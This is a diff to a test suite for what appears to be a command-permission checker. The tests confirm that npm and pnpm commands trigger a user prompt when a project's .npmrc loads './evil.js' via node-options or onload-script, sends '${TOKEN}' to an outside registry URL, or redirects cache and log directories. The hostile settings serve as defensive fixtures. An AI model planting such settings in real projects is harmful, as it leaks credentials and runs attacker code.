@@ -33,6 +33,10 @@ describe('a program that a project brings along is asked about', () => {
       'packageManager',
     ],
     ['npm ls', '.npmrc', 'onload-script=./evil.js\n', 'onload-script'],
+    ['npm ls', '.npmrc', 'logs-dir=src\n', 'logs-dir'],
+    ['npm run', '.npmrc', 'cache = ./x\n', 'cache'],
+    ['npm pkg get name', '.npmrc', 'registry=http://host.example/${TOKEN}\n', 'registry'],
+    ['npm ls', '.npmrc', '@a:registry=http://host.example/${TOKEN}\n', 'registry'],
     ['npm --version', '.npmrc', 'a=b\nnode-options = --require=./evil.js\n', 'node-options'],
   ])('%s, by %s: %j [P4]', async (command, path, text, key) => {
     place.put(path, text);
@@ -52,7 +56,10 @@ test('everyday settings of projects are not asked about [P4]', async () => {
   place.put('rust-toolchain', 'stable\n');
   place.put('.yarnrc.yml', 'nodeLinker: node-modules\nenableGlobalCache: true\n');
   place.put('package.json', '{"packageManager": "pnpm@9.1.0+sha256.abc", "plugins": []}');
-  place.put('.npmrc', 'ignore-scripts=true\nsave-exact=true\n//host/:_authToken=${TOKEN}\n');
+  place.put(
+    '.npmrc',
+    'ignore-scripts=true\nsave-exact=true\nregistry=https://host.example/\n//host/:_authToken=${TOKEN}\n',
+  );
   for (const command of [
     'cargo tree',
     'cargo --version',
@@ -63,4 +70,15 @@ test('everyday settings of projects are not asked about [P4]', async () => {
     'npm -v',
   ])
     expect([command, (await verdictOn(command)).decision]).toEqual([command, 'allow']);
+});
+
+test.each([
+  'npm ls --logs-dir=src',
+  'npm ls --logs-dir src',
+  'npm ls --cache=src',
+  'npm ls --cache src',
+  'npm --cache src run',
+  'pnpm ls --store-dir=src',
+])('"%s" writes where it says, and asks [P4]', async (command) => {
+  expect((await verdictOn(command)).decision).toBe('ask_user');
 });
